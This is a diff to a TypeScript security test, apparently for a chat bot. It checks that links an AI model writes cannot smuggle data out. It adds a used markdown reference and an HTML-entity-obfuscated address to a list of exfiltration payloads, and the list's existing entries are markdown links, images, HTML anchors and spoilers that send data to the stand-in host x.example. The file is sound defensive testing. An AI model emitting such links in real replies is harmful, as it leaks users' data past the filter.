@@ -60,6 +60,8 @@ const ATTACKS: readonly (readonly [what: string, answer: string, link?: string])
   ["a link in the words of another", `[https://x.example/?k=${DATA}](${WRITTEN})`, WRITTEN],
   ["a picture", `![the page](https://x.example/p.png?k=${DATA})`],
   ["a reference", `[1]: https://x.example/?k=${DATA}`],
+  ["a reference that is used", `[page][1]\n\n[1]: https://x.example/?k=${DATA}`],
+  ["a part of an address in entities", `https:&#47;&#x2f;x.example/?k=${DATA}`],
   ["HTML", `<a href="https://x.example/?k=${DATA}">page</a>`],
   ["an unclosed bracket", `<https://x.example/?k=${DATA}`],
   ["a spoiler", `||https://x.example/?k=${DATA}||`],
@@ -95,7 +97,7 @@ describe("[SEC-R7] a model that wants to leak data by links", () => {
         const shown = (await replies("general", index + 1)).at(-1) ?? "";
         for (const found of linksIn(shown)) assert.equal(found, link, `${what}: ${shown}`);
         const flags = simulator.posted("general").at(-1)?.flags ?? 0;
-        const isWhole = shown === `See ${WRITTEN}.`;
+        const isWhole = shown === `See ${WRITTEN}.` || shown === WRITTEN;
         assert.equal((flags & SUPPRESS_EMBEDS) !== 0, !isWhole, `${what}: ${shown}`);
         if (link) assert.ok(shown.includes(link), `${what}: ${shown}`);
       }
